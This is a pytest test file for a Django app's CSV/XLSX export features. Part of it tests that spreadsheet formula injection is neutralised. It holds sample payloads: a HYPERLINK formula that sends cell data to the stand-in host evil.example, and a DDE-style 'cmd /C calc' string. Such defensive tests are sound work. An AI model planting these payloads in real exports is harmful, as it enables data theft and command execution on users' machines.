import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from livsmiljo.analysis import exports
from livsmiljo.analysis.services import document_tag
from livsmiljo.analysis.tests.conftest import SECRET
from livsmiljo.analysis.tests.factories import make_document

pytestmark = pytest.mark.django_db


def _sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_the_tags_export_as_xlsx_has_one_row_per_visible_passage(
    owner_client, private_document, other_private_document
):
    response = owner_client.get(reverse("analysis:tags_export", args=["xlsx"]))
    sheet = _sheet(response)
    assert sheet["A1"].value == "stycke" and sheet["F1"].value == "teman"
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 3
    assert rows[0][1] == "Östgötastrategin" and "transporter" in rows[0][5]
    assert all(SECRET not in (r[-1] or "") for r in rows)


def test_the_document_profile_exports_as_csv_and_xlsx(owner_client, private_document):
    csv_text = owner_client.get(
        reverse("analysis:document_export", args=[private_document.pk, "csv"])
    ).content.decode()
    assert csv_text.startswith("\ufeffdel,id,namn")
    assert "tema,transporter,Transporter och tillgänglighet,1,33.3" in csv_text
    sheet = _sheet(owner_client.get(reverse("analysis:document_export", args=[private_document.pk, "xlsx"])))
    themes = {row[1]: row[4] for row in sheet.iter_rows(min_row=2, values_only=True) if row[0] == "tema"}
    assert themes["transporter"] == pytest.approx(33.3)


def test_the_comparison_matrix_exports_and_the_heatmap_is_a_png(
    facilitator_client, private_document, other_private_document
):
    sheet = _sheet(facilitator_client.get(reverse("analysis:matrix_export", args=["xlsx"])))
    assert sheet["A1"].value == "organisation" and sheet["C1"].value == "halsa"
    names = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert names == ["Region Norrbotten", "Region Östergötland"]
    png = facilitator_client.get(reverse("analysis:heatmap"))
    assert png["Content-Type"] == "image/png" and png.content.startswith(b"\x89PNG\r\n\x1a\n")


def test_an_outsider_cannot_export_the_profile_of_an_unshared_document(outsider_client, private_document):
    url = reverse("analysis:document_export", args=[private_document.pk, "xlsx"])
    assert outsider_client.get(url).status_code == 404


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'


@pytest.fixture
def formula_document(region):
    document = make_document(region, "@SUM(1+1)*cmd|' /C calc'!A0", title=FORMULA)
    document.passages.update(heading="+1+1")
    document_tag(document=document)
    return document


def test_a_formula_in_a_title_is_text_not_a_formula_in_the_xlsx_export(owner_client, formula_document):
    sheet = _sheet(owner_client.get(reverse("analysis:tags_export", args=["xlsx"])))
    title, heading, text = sheet["B2"], sheet["E2"], sheet["N2"]
    assert title.data_type == "s" and title.value == FORMULA and title.quotePrefix
    assert heading.data_type == "s" and heading.value == "+1+1" and heading.quotePrefix
    assert text.data_type == "s" and text.value.startswith("@SUM") and text.quotePrefix
    assert sheet["A2"].data_type == "n"


def test_a_formula_in_a_title_is_prefixed_with_an_apostrophe_in_the_csv_export(
    owner_client, formula_document
):
    csv_text = owner_client.get(reverse("analysis:tags_export", args=["csv"])).content.decode()
    row = next(csv.reader(io.StringIO(csv_text.removeprefix("\ufeff")).readlines()[1:]))
    assert row[1] == "'" + FORMULA
    assert row[4] == "'+1+1" and row[13].startswith("'@SUM")


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "-"])
def test_a_text_that_a_spreadsheet_would_read_as_a_formula_is_neutralised(value):
    assert exports.neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-1, -2.5, 0, 33.3, "", "Region Östergötland", "a=b", "1-2", None])
def test_numbers_and_ordinary_text_are_written_as_they_are(value):
    assert exports.neutralise_cell(value) == value


def test_a_title_with_a_control_character_still_exports_as_xlsx(owner_client, region):
    document_tag(document=make_document(region, "Text.", title="Radbrytning\x0bfrån Word"))
    sheet = _sheet(owner_client.get(reverse("analysis:tags_export", args=["xlsx"])))
    assert sheet["B2"].value == "Radbrytningfrån Word"
